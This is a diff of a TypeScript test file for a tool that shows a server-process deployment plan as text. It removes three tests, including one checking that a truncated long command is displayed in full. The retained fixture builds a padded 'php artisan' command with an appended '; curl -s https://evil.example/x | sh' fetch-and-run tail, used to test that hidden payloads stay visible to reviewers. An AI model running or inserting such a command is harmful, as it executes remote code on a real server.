@@ -134,25 +134,6 @@ describe('A plan as a diff', () => {
     ]);
   });
 
-  test('shows as created what was created, though it could not be checked', () => {
-    const [row] = rowsFor([custom('php a')]);
-    const unchecked = { ...row, status: 'failed', outcome: 'created' } as PlanRow;
-    expect(diffOf([unchecked])).toEqual(['@@ App @@', '+ 1 process php a']);
-    expect(planText([unchecked]).places[0]?.counts).toMatchObject({ created: 1, undone: 0 });
-  });
-
-  test('has what processes share in the heading of their group', () => {
-    const shared = (user: string) => (row: PlanRow) => ({ ...row, shared: [user, '/srv'] });
-    const rows = rowsFor([custom('a'), custom('b')]);
-    expect(diffOf([...rows.map(shared('forge')), ...rows.slice(1).map(shared('root'))])).toEqual([
-      '@@ App · forge · /srv @@',
-      '+ 1 process a',
-      '+ 1 process b',
-      '@@ App · root · /srv @@',
-      '+ 1 process b',
-    ]);
-  });
-
   test('counts what another run has made by then as unchanged', () => {
     const rows = rowsFor([{ type: 'worker', processes: 1, config: { tries: 3 } }]).map(
       (row): PlanRow => ({ ...row, status: 'done', outcome: 'unchanged' }),
@@ -165,13 +146,6 @@ describe('A plan as a diff', () => {
 describe('A plan hides nothing', () => {
   const safe = `php artisan ${'x '.repeat(40)}--safe`;
   const evil = `${safe}; curl -s https://evil.example/x | sh`;
-
-  test('a command that is cut in its line stands whole below', () => {
-    const { places, whole } = planText(rowsFor([custom(evil)]));
-    expect(places[0]?.lines[1]).toMatch(/^\+ 1 process php artisan (x )+x…$/);
-    expect(places[0]?.lines[1]?.length).toBeLessThan(80);
-    expect(whole).toEqual([`App: + 1 process  ${evil}`]);
-  });
 
   test('one that is deleted or fails, too', () => {
     const rows = rowsFor([], [runs('p-1', evil)]).map(
